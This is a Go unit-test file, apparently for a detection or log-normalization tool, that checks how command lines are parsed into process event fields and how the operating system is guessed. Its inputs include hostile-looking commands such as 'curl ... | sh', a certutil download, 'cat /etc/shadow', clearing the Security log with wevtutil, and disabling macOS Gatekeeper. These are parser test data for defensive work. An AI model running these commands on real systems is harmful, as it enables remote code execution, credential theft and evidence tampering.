package cmdline

import "testing"

func TestBuildEvent(t *testing.T) {
	cases := []struct {
		in   Input
		want Event
	}{
		{Input{CommandLine: "wevtutil cl Security"}, Event{"Image": `C:\Windows\System32\wevtutil.exe`, "CommandLine": "wevtutil cl Security"}},
		{Input{CommandLine: "powershell -nop"}, Event{"Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "CommandLine": "powershell -nop"}},
		{Input{CommandLine: "evil.exe -x"}, Event{"Image": `\evil.exe`, "CommandLine": "evil.exe -x"}},
		{Input{CommandLine: `"C:\Program Files\App\app.exe" --flag`}, Event{"Image": `C:\Program Files\App\app.exe`, "CommandLine": `"C:\Program Files\App\app.exe" --flag`}},
		{Input{CommandLine: `C:\Program Files\App\app.exe --flag`}, Event{"Image": `C:\Program Files\App\app.exe`, "CommandLine": `C:\Program Files\App\app.exe --flag`}},
		{Input{CommandLine: "cmd.exe/c whoami"}, Event{"Image": `C:\Windows\System32\cmd.exe`, "CommandLine": "cmd.exe/c whoami"}},
		{Input{CommandLine: "curl -s http://x | sh"}, Event{"Image": "/usr/bin/curl", "CommandLine": "curl -s http://x | sh"}},
		{Input{CommandLine: "/tmp/x -d"}, Event{"Image": "/tmp/x", "CommandLine": "/tmp/x -d"}},
		{Input{CommandLine: "mytool --x", OS: "Ubuntu 22.04"}, Event{"Image": "/mytool", "CommandLine": "mytool --x"}},
		{Input{CommandLine: "mytool --x", OS: "Windows 11"}, Event{"Image": `\mytool.exe`, "CommandLine": "mytool --x"}},
		{Input{CommandLine: "cmd /c x", Image: `D:\x\cmd.exe`, ParentCommandLine: `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n a.docx`, User: `CORP\bob`},
			Event{"Image": `D:\x\cmd.exe`, "CommandLine": "cmd /c x", "ParentImage": `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
				"ParentCommandLine": `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n a.docx`, "User": `CORP\bob`}},
	}
	for _, c := range cases {
		got := BuildEvent(c.in)
		if len(got) != len(c.want) {
			t.Errorf("%+v: got %v, want %v", c.in, got, c.want)
			continue
		}
		for k, v := range c.want {
			if got[k] != v {
				t.Errorf("%+v: %s = %q, want %q", c.in, k, got[k], v)
			}
		}
		if _, ok := got["OriginalFileName"]; ok {
			t.Error("OriginalFileName must not be invented")
		}
	}
}

func TestGuessOS(t *testing.T) {
	cases := map[string]string{
		`C:\Windows\System32\cmd.exe /c dir`:            OSWindows,
		"certutil -urlcache -f http://x/a a":            OSWindows,
		"notepad.exe":                                   OSWindows,
		"reg query HKLM":                                OSWindows,
		"curl -s http://x | bash":                       OSLinux,
		"/usr/bin/python3 -c 'print(1)'":                OSLinux,
		"cat /etc/shadow":                               OSLinux,
		"osascript -e 'display dialog \"x\"'":           OSMacOS,
		"sudo spctl --master-disable":                   OSMacOS,
		"launchctl load /Library/LaunchDaemons/x.plist": OSMacOS,
		"cp a ~/Library/LaunchAgents/x.plist":           OSMacOS,
		"/Applications/Slack.app/Contents/MacOS/Slack":  OSMacOS,
		"frobnicate --now":                              "",
		"":                                              "",
		"whoami":                                        "",
	}
	for in, want := range cases {
		if got := GuessOS(in, ""); got != want {
			t.Errorf("GuessOS(%q) = %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{"Windows Server 2019": OSWindows, "darwin": OSMacOS, "macOS 14": OSMacOS, "RHEL 9": OSLinux, "beos": ""} {
		if got := NormalizeOS(in); got != want {
			t.Errorf("NormalizeOS(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestSplitParent(t *testing.T) {
	for in, want := range map[string][2]string{
		`C:\Windows\explorer.exe`:         {`C:\Windows\explorer.exe`, ""},
		`"C:\Program Files\x\y.exe" /dde`: {`C:\Program Files\x\y.exe`, `"C:\Program Files\x\y.exe" /dde`},
		"/usr/sbin/sshd -D":               {"/usr/sbin/sshd", "/usr/sbin/sshd -D"},
		"":                                {"", ""},
	} {
		img, cmd := SplitParent(in)
		if img != want[0] || cmd != want[1] {
			t.Errorf("SplitParent(%q) = %q, %q; want %q, %q", in, img, cmd, want[0], want[1])
		}
	}
}
